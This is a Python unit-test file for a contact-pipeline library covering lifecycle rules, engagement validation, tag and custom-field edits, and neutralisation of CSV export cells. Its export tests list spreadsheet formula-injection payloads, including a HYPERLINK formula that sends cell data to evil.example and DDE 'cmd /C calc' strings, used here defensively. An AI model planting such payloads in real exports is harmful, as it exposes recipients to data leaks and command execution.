"""Unit tests of the contact features: lifecycle rules (every stage x every signal), engagement history and
validation, tag/custom-field edits and their validation, and the CSV export's cells (formula neutralisation)."""

from __future__ import annotations

import csv
import io
import itertools
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from leadpipe.contact_edits import (
    BulkTagRequest,
    ContactPatch,
    apply_patch,
    check_custom_key,
    normalize_tag,
    parse_custom_filter,
)
from leadpipe.contacts import UNCHANGED, Unchanged
from leadpipe.engagements import (
    ENGAGEMENT_STAGE,
    FUTURE_SKEW,
    MAX_DETAILS_BYTES,
    MAX_HISTORY,
    STAGE_ORDER,
    EngagementRequest,
    advance,
    engagement_of,
    lifecycle_after_engagement,
    lifecycle_after_enrichment,
    record,
)
from leadpipe.errors import BadRequest
from leadpipe.export import (
    BASE_COLUMNS,
    FORMULA_TRIGGERS,
    cell,
    columns_for,
    contact_row,
    needs_neutralizing,
    neutralize,
)
from leadpipe.models import Contact, Engagement, EngagementType, FieldValue, HubSpotRef, LifecycleStage
from leadpipe.normalize import MAX_TAGS, FieldProblem, normalize_tags

PROPERTY = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
NOW = datetime(2026, 5, 1, 12, 0, tzinfo=UTC)
S = LifecycleStage
E = EngagementType


def contact(**fields: Any) -> Contact:
    return Contact(workspace="default", email="ann@acme.com", email_domain="acme.com", domain="acme.com", **fields)


def email_status(value: str, confidence: float) -> dict[str, FieldValue]:
    return {"email_status": FieldValue(value=value, provider="hunter", confidence=confidence, fetched_at=NOW)}


# ---------------------------------------------------------------------------------------------------- lifecycle

# Every (stage, engagement) pair, written out: the table of engagements.py's docstring.
ENGAGEMENT_TABLE: dict[tuple[LifecycleStage, EngagementType], LifecycleStage] = {}
for _stage in S:
    for _kind in E:
        if _stage is S.DISQUALIFIED:
            _expected = S.DISQUALIFIED
        elif _kind is E.EMAIL_SENT:
            _expected = _stage
        elif _kind is E.MEETING_BOOKED:
            _expected = S.CONVERTED
        else:  # opened, clicked, visit, reply -> engaged, unless already converted
            _expected = S.CONVERTED if _stage is S.CONVERTED else S.ENGAGED
        ENGAGEMENT_TABLE[(_stage, _kind)] = _expected


@pytest.mark.parametrize(("stage", "kind"), list(ENGAGEMENT_TABLE))
def test_engagement_moves_the_lifecycle_as_the_table_says(stage: LifecycleStage, kind: EngagementType) -> None:
    assert lifecycle_after_engagement(stage, kind) is ENGAGEMENT_TABLE[(stage, kind)]


def test_the_table_covers_every_stage_and_every_engagement_type() -> None:
    assert len(ENGAGEMENT_TABLE) == len(S) * len(E) == 36
    assert set(ENGAGEMENT_STAGE) == set(E)
    assert set(STAGE_ORDER) == set(S) - {S.DISQUALIFIED}


@pytest.mark.parametrize(
    ("stage", "enrichment", "expected"),
    [
        (S.NEW, {}, S.ENRICHED),
        (S.NEW, email_status("valid", 0.95), S.VERIFIED),
        (S.NEW, email_status("valid", 0.8), S.VERIFIED),  # the threshold itself counts
        (S.NEW, email_status("valid", 0.79), S.ENRICHED),
        (S.NEW, email_status("risky", 0.99), S.ENRICHED),
        (S.ENRICHED, email_status("valid", 0.9), S.VERIFIED),
        (S.ENRICHED, {}, S.ENRICHED),
        (S.VERIFIED, {}, S.VERIFIED),  # a later enrichment without verification does not undo it
        (S.VERIFIED, email_status("invalid", 0.99), S.VERIFIED),
        (S.ENGAGED, email_status("valid", 0.99), S.ENGAGED),
        (S.CONVERTED, {}, S.CONVERTED),
        (S.DISQUALIFIED, email_status("valid", 0.99), S.DISQUALIFIED),
        (S.DISQUALIFIED, {}, S.DISQUALIFIED),
    ],
)
def test_enrichment_moves_new_contacts_to_enriched_or_verified(
    stage: LifecycleStage, enrichment: dict[str, FieldValue], expected: LifecycleStage
) -> None:
    assert lifecycle_after_enrichment(stage, enrichment) is expected


def test_advance_never_moves_backwards_and_never_leaves_disqualified() -> None:
    for current, target in itertools.product(S, [*STAGE_ORDER, None]):
        after = advance(current, target)
        if current is S.DISQUALIFIED:
            assert after is S.DISQUALIFIED
        else:
            assert STAGE_ORDER.index(after) == max(
                STAGE_ORDER.index(current), STAGE_ORDER.index(target) if target else -1
            )
    with pytest.raises(ValueError, match="explicitly"):
        advance(S.NEW, S.DISQUALIFIED)


@given(st.lists(st.sampled_from(list(E)), max_size=12), st.sampled_from(list(S)))
@PROPERTY
def test_the_order_of_engagements_does_not_change_the_final_stage(kinds: list[EngagementType], start: Any) -> None:
    def run(sequence: list[EngagementType]) -> LifecycleStage:
        stage = start
        for kind in sequence:
            stage = lifecycle_after_engagement(stage, kind)
        return stage

    assert run(kinds) is run(list(reversed(kinds))) is run(sorted(kinds))


# ---------------------------------------------------------------------------------------------------- history


def engagement(kind: EngagementType, minutes: int, id: str | None = None) -> Engagement:
    at = NOW - timedelta(minutes=minutes)
    return Engagement(id=id or f"e{minutes}", type=kind, at=at, recorded_at=NOW)


def test_recording_keeps_the_newest_100_newest_first_and_counts_all() -> None:
    c = contact()
    for minutes in range(150):  # oldest last: recorded in an arbitrary order
        result = record(c, engagement(E.EMAIL_SENT if minutes % 2 else E.EMAIL_OPENED, (minutes * 37) % 150))
        assert isinstance(result, Contact)
        c = result
    assert len(c.engagements) == MAX_HISTORY
    assert [e.at for e in c.engagements] == sorted((e.at for e in c.engagements), reverse=True)
    assert c.engagements[0].at == NOW and c.engagements[-1].at == NOW - timedelta(minutes=99)
    assert sum(c.engagement_counts.values()) == 150
    assert c.engagement_counts == {"email_opened": 75, "email_sent": 75}
    assert c.last_engaged_at == NOW
    assert c.lifecycle is S.ENGAGED


def test_a_repeated_id_is_recorded_once_and_an_old_engagement_still_counts() -> None:
    c = record(contact(), engagement(E.EMAIL_OPENED, 5, id="evt-1"))
    assert isinstance(c, Contact)
    assert record(c, engagement(E.MEETING_BOOKED, 1, id="evt-1")) is UNCHANGED
    late = record(c, engagement(E.MEETING_BOOKED, 60 * 24, id="evt-2"))  # a day old, arriving now
    assert isinstance(late, Contact)
    assert late.lifecycle is S.CONVERTED
    assert late.last_engaged_at == NOW - timedelta(minutes=5)  # the newest one, not the latest to arrive
    assert [e.id for e in late.engagements] == ["evt-1", "evt-2"]


def test_recording_does_not_touch_the_contact_it_was_given() -> None:
    before = contact(lifecycle=S.VERIFIED)
    after = record(before, engagement(E.REPLY_RECEIVED, 0))
    assert isinstance(after, Contact) and after.lifecycle is S.ENGAGED
    assert before.engagements == [] and before.lifecycle is S.VERIFIED and before.engagement_counts == {}


def test_a_disqualified_contact_records_engagements_but_stays_disqualified() -> None:
    after = record(contact(lifecycle=S.DISQUALIFIED), engagement(E.MEETING_BOOKED, 0))
    assert isinstance(after, Contact)
    assert after.lifecycle is S.DISQUALIFIED and after.engagement_counts == {"meeting_booked": 1}


# ---------------------------------------------------------------------------------------------------- requests


def problems(model: type[Any], data: dict[str, Any]) -> list[tuple[str, str]]:
    with pytest.raises(ValidationError) as info:
        model.model_validate(data)
    return [(".".join(str(p) for p in e["loc"]), e["msg"]) for e in info.value.errors()]


@pytest.mark.parametrize(
    ("data", "where", "says"),
    [
        ({"type": "email_bounced"}, "type", "Input should be"),
        ({"type": "email_opened", "at": "2026-05-01T10:00:00"}, "at", "time zone"),
        ({"type": "email_opened", "at": "1999-12-31T23:59:59Z"}, "at", "before 2000"),
        ({"type": "email_opened", "details": {f"k{i}": i for i in range(21)}}, "details", "21 keys"),
        ({"type": "email_opened", "details": {"bad key": 1}}, "details", "'bad key' is not valid"),
        ({"type": "email_opened", "details": {"n": float("nan")}}, "details", "finite"),
        ({"type": "email_opened", "details": {"n": 10**16}}, "details", "integers are limited"),
        ({"type": "email_opened", "details": {"s": "x" * 501}}, "details.s", "at most 500"),
        ({"type": "email_opened", "details": {"nested": {"a": 1}}}, "details.nested", ""),
        ({"type": "email_opened", "details": {f"k{i}": "x" * 100 for i in range(11)}}, "details", "bytes"),
        ({"type": "email_opened", "id": "has space"}, "id", "letters, digits"),
        ({"type": "email_opened", "extra": 1}, "extra", "Extra inputs"),
    ],
)
def test_engagement_requests_are_validated_field_by_field(data: dict[str, Any], where: str, says: str) -> None:
    found = problems(EngagementRequest, data)
    assert any(loc.startswith(where) and says in msg for loc, msg in found), found


def test_engagement_time_defaults_to_now_and_may_not_be_in_the_future() -> None:
    opened = engagement_of(EngagementRequest(type=E.EMAIL_OPENED), NOW)
    assert opened.at == NOW and opened.recorded_at == NOW and opened.id.startswith("eng_")
    skewed = EngagementRequest(type=E.EMAIL_OPENED, at=NOW + FUTURE_SKEW)
    assert engagement_of(skewed, NOW).at == NOW + FUTURE_SKEW
    with pytest.raises(BadRequest) as future:
        engagement_of(EngagementRequest(type=E.EMAIL_OPENED, at=NOW + FUTURE_SKEW + timedelta(seconds=1)), NOW)
    assert future.value.details[0]["location"] == "body.at"
    within = EngagementRequest(type="link_clicked", details={"url": "https://x.io/a", "n": 3, "ok": True, "r": 0.5})
    assert within.details == {"url": "https://x.io/a", "n": 3, "ok": True, "r": 0.5}
    assert len(str(within.details)) < MAX_DETAILS_BYTES


# ---------------------------------------------------------------------------------------------------- edits


def test_tags_follow_the_import_rules() -> None:
    assert normalize_tag("  VIP   Customer ") == "vip customer"
    for bad, says in [("", "empty"), ("   ", "empty"), ("a,b", "separate"), ("a|b", "separate"), ("x" * 65, "65")]:
        with pytest.raises(ValueError, match=says):
            normalize_tag(bad)
    assert normalize_tag("x" * 64) == "x" * 64


@given(st.text(max_size=80))
@PROPERTY
@example("Ünïcödé  TAG\t")
def test_an_accepted_tag_is_what_the_import_makes_of_the_same_cell(raw: str) -> None:
    try:
        tag = normalize_tag(raw)
    except ValueError:
        return
    assert normalize_tags(raw) == [tag]
    assert normalize_tag(tag) == tag


def test_custom_keys_must_be_in_the_form_the_import_gives_a_column() -> None:
    assert check_custom_key("lead_source") == "lead_source"
    with pytest.raises(ValueError, match="use 'lead_source'"):
        check_custom_key("Lead Source")
    for bad in ["", "_x", "x" * 65, "émoji🙂"]:
        with pytest.raises(ValueError, match="not valid"):
            check_custom_key(bad)
    assert parse_custom_filter("lead_source:web, inbound") == ("lead_source", "web, inbound")
    assert parse_custom_filter("plan:a:b") == ("plan", "a:b")
    for bad in ["nocolon", "Bad Key:x", "key:", "key:   "]:
        with pytest.raises(FieldProblem):
            parse_custom_filter(bad)


@pytest.mark.parametrize(
    ("data", "where", "says"),
    [
        ({}, "", "nothing to change"),
        ({"tags": {"add": ["a,b"]}}, "tags.add.0", "separate"),
        ({"tags": {"add": ["x"], "remove": [" X "]}}, "tags", "both added and removed"),
        ({"tags": {"add": [f"t{i}" for i in range(30)], "remove": [f"r{i}" for i in range(21)]}}, "tags", "51"),
        ({"tags": {"add": [f"t{i}" for i in range(51)]}}, "tags.add", "at most 50"),
        ({"tags": {"add": [1]}}, "tags.add.0", "valid string"),
        ({"custom": {"set": {"Lead Source": "x"}}}, "custom.set.Lead Source", "use 'lead_source'"),
        ({"custom": {"set": {"k": "   "}}}, "custom.set.k", "empty"),
        ({"custom": {"set": {"k": "x" * 2001}}}, "custom.set.k", "2001"),
        ({"custom": {"set": {"k": "v"}, "remove": ["k"]}}, "custom", "both set and removed"),
        ({"do_not_enrich": "yes"}, "do_not_enrich", "valid boolean"),
        ({"lifecycle": "lost"}, "lifecycle", "Input should be"),
        ({"tags": {"add": ["x"]}, "status": "synced"}, "status", "Extra inputs"),
    ],
)
def test_patches_are_validated_with_the_field_named(data: dict[str, Any], where: str, says: str) -> None:
    found = problems(ContactPatch, data)
    assert any(loc.startswith(where) and says in msg for loc, msg in found), found


def test_bulk_requests_are_bounded() -> None:
    assert problems(BulkTagRequest, {"emails": ["a@b.co"]})[0][1].endswith("give add and/or remove")
    found = problems(BulkTagRequest, {"emails": [f"p{i}@b.co" for i in range(101)], "add": ["x"]})
    assert found[0][0] == "emails"
    overlap = problems(BulkTagRequest, {"emails": ["a@b.co"], "add": ["x"], "remove": ["X"]})
    assert overlap == [("", "Value error, tag(s) both added and removed: x")]
    ok = BulkTagRequest(emails=["a@b.co"], add=["  New ", "new"], remove=["old"])
    assert (ok.add, ok.remove) == (["new"], ["old"])


def test_a_patch_changes_only_what_it_names_and_keeps_tag_times() -> None:
    first = NOW - timedelta(days=3)
    c = contact(tags={"keep": first, "drop": first}, custom={"plan": "pro", "old": "x"})
    patch = ContactPatch.model_validate(
        {
            "tags": {"add": ["keep", "New"], "remove": ["drop", "absent"]},
            "custom": {"set": {"plan": "enterprise", "seats": " 12 "}, "remove": ["old", "absent"]},
        }
    )
    after = apply_patch(c, patch, NOW)
    assert isinstance(after, Contact)
    assert after.tags == {"keep": first, "new": NOW}
    assert after.custom == {"plan": "enterprise", "seats": "12"}
    assert after.updated_at == NOW and after.lifecycle is S.NEW and after.do_not_enrich is False
    assert c.tags == {"keep": first, "drop": first}  # the given contact is not changed


def test_a_patch_that_changes_nothing_writes_nothing() -> None:
    c = contact(tags={"vip": NOW}, custom={"plan": "pro"}, do_not_enrich=True, lifecycle=S.ENGAGED)
    patch = ContactPatch.model_validate(
        {
            "tags": {"add": ["VIP"], "remove": ["absent"]},
            "custom": {"set": {"plan": "pro"}, "remove": ["nothing"]},
            "do_not_enrich": True,
            "lifecycle": "engaged",
        }
    )
    assert isinstance(apply_patch(c, patch, NOW), Unchanged)


def test_lifecycle_is_set_exactly_as_given_and_limits_apply_to_the_result() -> None:
    c = contact(lifecycle=S.CONVERTED)
    out = apply_patch(c, ContactPatch(lifecycle=S.DISQUALIFIED), NOW)
    assert isinstance(out, Contact) and out.lifecycle is S.DISQUALIFIED
    back = apply_patch(out, ContactPatch(lifecycle=S.NEW), NOW)
    assert isinstance(back, Contact) and back.lifecycle is S.NEW
    full = contact(tags={f"t{i}": NOW for i in range(MAX_TAGS)})
    with pytest.raises(BadRequest) as too_many:
        apply_patch(full, ContactPatch.model_validate({"tags": {"add": ["one-more"]}}), NOW)
    assert too_many.value.code == "too_many_tags"
    swapped = apply_patch(full, ContactPatch.model_validate({"tags": {"add": ["new"], "remove": ["t0"]}}), NOW)
    assert isinstance(swapped, Contact) and len(swapped.tags) == MAX_TAGS
    crowded = contact(custom={f"k{i}": "v" for i in range(50)})
    with pytest.raises(BadRequest) as custom_full:
        apply_patch(crowded, ContactPatch.model_validate({"custom": {"set": {"k50": "v"}}}), NOW)
    assert custom_full.value.code == "too_many_custom_fields"


# ---------------------------------------------------------------------------------------------------- export cells

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\n=1+1",
    "\uff1d1+1",  # full-width =
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\ufe661+1",  # small =
    "=",
    "-",
    "+33 1 23 45 67 89",
    "--1",
    "=cmd@evil.example",
]
HARMLESS = ["Ada", "", "a=b", "ACME, Inc.", "O'Brien", "'already quoted", "1+1", "https://x.io/=a", " Ada", "é=1"]
PLAIN_NUMBERS = ["-12", "+3.5", "-0.25", "1e3", "-1E-3", "+33", "42", ".5", "-.5"]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_cells_get_a_leading_quote(value: str) -> None:
    assert neutralize(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS + PLAIN_NUMBERS)
def test_harmless_cells_and_plain_numbers_are_left_alone(value: str) -> None:
    assert neutralize(value) == value


@given(st.text(max_size=40))
@PROPERTY
@example("\uff0d\uff0d1")
@example(" \t=x")
def test_no_neutralised_cell_can_start_a_formula(value: str) -> None:
    out = neutralize(value)
    assert out in (value, "'" + value)
    stripped = out.lstrip()
    if stripped and stripped[0] in FORMULA_TRIGGERS and not out.startswith("'"):
        assert float(out) == float(out)  # only a plain number may start with + or -
    if out == value:
        assert not needs_neutralizing(value)


@given(st.lists(st.text(max_size=30), min_size=1, max_size=8))
@PROPERTY
def test_neutralised_cells_survive_a_csv_round_trip(values: list[str]) -> None:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerow([neutralize(v) for v in values])
    (row,) = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert row == [neutralize(v) for v in values]
    assert [r[1:] if r.startswith("'") and needs_neutralizing(v) else r for r, v in zip(row, values, strict=True)] == (
        values
    )


def test_a_row_has_provenance_for_each_enriched_field_and_hostile_values_neutralised() -> None:
    c = contact(
        first_name="=1+1",
        company="ACME",
        phone="+1 555 0100",
        tags={"b": NOW, "a": NOW},
        custom={"note": "@evil", "score": "-3"},
        quality=0.8765432,
        hubspot=HubSpotRef(contact_id="101", company_id="202"),
        enrichment={
            "industry": FieldValue(value="=cmd", provider="sample", confidence=0.9, fetched_at=NOW),
            "founded_year": FieldValue(value=1999, provider="pdl", confidence=0.5, fetched_at=NOW),
        },
        engagement_counts={"email_opened": 2, "email_sent": 3},
    )
    row = contact_row(c)
    assert row["first_name"] == "'=1+1" and row["phone"] == "'+1 555 0100"
    assert row["tags"] == "a;b"
    assert row["custom.note"] == "'@evil" and row["custom.score"] == "-3"
    assert row["quality"] == "0.876543" and row["engagements"] == "5" and row["do_not_enrich"] == "false"
    assert (row["hubspot_contact_id"], row["hubspot_company_id"]) == ("101", "202")
    assert row["enriched.industry"] == "'=cmd"
    assert row["enriched.industry_source"] == "sample"
    assert row["enriched.industry_confidence"] == "0.9"
    assert row["enriched.industry_fetched_at"] == "2026-05-01T12:00:00.000Z"
    assert row["enriched.founded_year"] == "1999"
    assert cell(None) == "" and cell(True) == "true"


def test_columns_put_the_contact_first_then_custom_then_enriched_in_vocabulary_order() -> None:
    columns = columns_for({"zeta", "alpha"}, {"industry", "zz_unknown", "first_name", "company_country"})
    assert columns[: len(BASE_COLUMNS)] == list(BASE_COLUMNS)
    rest = columns[len(BASE_COLUMNS) :]
    assert rest[:2] == ["custom.alpha", "custom.zeta"]
    enriched = [c for c in rest[2:] if not c.endswith(("_source", "_confidence", "_fetched_at"))]
    assert enriched == ["enriched.first_name", "enriched.industry", "enriched.company_country", "enriched.zz_unknown"]
    assert rest[2:6] == [
        "enriched.first_name",
        "enriched.first_name_source",
        "enriched.first_name_confidence",
        "enriched.first_name_fetched_at",
    ]
